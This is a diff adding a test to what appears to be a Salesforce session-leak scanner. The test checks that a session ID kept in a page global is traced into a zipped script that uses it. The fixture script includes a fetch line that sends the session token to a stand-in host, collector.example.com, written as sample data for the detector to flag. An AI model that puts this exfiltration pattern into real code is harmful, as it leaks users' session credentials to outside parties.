@@ -110,3 +110,48 @@ export default class Keeper {
     assert [f.rule_id for f in findings if f.location.path.endswith("keeper.js")] == ["SID003"]
     (handed,) = [f.message for f in findings if f.rule_id == "SID008" and "Ctl.getSid" in f.message]
     assert "only to this org" not in handed
+
+
+def test_a_session_a_page_keeps_in_a_global_is_followed_into_the_zipped_script_it_loads(tmp_path: Path) -> None:
+    """AF-4: a page's `var token = '{!$Api.Session_ID}'`, read by `js/main.js` in the zipped static
+    resource the page loads with URLFOR: the script's request is that session's use, and says how
+    the script got it. A page that keeps a session in the same global without loading the script
+    gives it nothing."""
+    import io
+    import json
+    import zipfile
+
+    root = tmp_path / "pkg"
+    default = root / "force-app" / "main" / "default"
+    (default / "pages").mkdir(parents=True)
+    (default / "staticresources").mkdir()
+    (root / "sfdx-project.json").write_text(json.dumps({"packageDirectories": [{"path": "force-app"}]}))
+    meta = '<?xml version="1.0" encoding="UTF-8"?><ApexPage xmlns="http://soap.sforce.com/2006/04/metadata">' \
+           "<apiVersion>59.0</apiVersion><label>{0}</label></ApexPage>"
+    (default / "pages" / "Host.page").write_text(
+        "<apex:page>\n<apex:includeScript value=\"{!URLFOR($Resource.app, 'js/main.js')}\"/>\n"
+        "<script>var token = '{!$Api.Session_ID}';</script>\n</apex:page>\n")
+    (default / "pages" / "Host.page-meta.xml").write_text(meta.format("Host"))
+    (default / "pages" / "Other.page").write_text("<apex:page>\n<script>var token = '{!$Api.Session_ID}';</script>\n"
+                                                  "</apex:page>\n")
+    (default / "pages" / "Other.page-meta.xml").write_text(meta.format("Other"))
+    archive = io.BytesIO()
+    with zipfile.ZipFile(archive, "w") as z:
+        z.writestr("js/main.js", "function send() {\n    fetch('https://collector.example.com/c', "
+                                 "{headers: {Authorization: 'Bearer ' + token}});\n}\n")
+    (default / "staticresources" / "app.resource").write_bytes(archive.getvalue())
+    (default / "staticresources" / "app.resource-meta.xml").write_text(
+        '<?xml version="1.0" encoding="UTF-8"?><StaticResource xmlns="http://soap.sforce.com/2006/04/metadata">'
+        "<cacheControl>Private</cacheControl><contentType>application/zip</contentType></StaticResource>")
+
+    findings = scan(ScanOptions(paths=(root,), root=root, jobs=1)).findings
+
+    exported = [f for f in findings if f.rule_id == "SID002"]
+    # a file inside a zip is reported at the archive, which SARIF viewers can open
+    assert [f.location.path for f in exported] == ["force-app/main/default/staticresources/app.resource"]
+    assert exported[0].message.endswith("(in js/main.js, line 2)")
+    assert exported[0].source is not None and exported[0].source.path.endswith("Host.page")
+    assert "kept by Host.page in its global 'token'" in exported[0].message
+    assert "collector.example.com" in exported[0].message
+    other = [f for f in findings if f.location.path.endswith("Other.page")]
+    assert [f.rule_id for f in other] == ["SID011"]
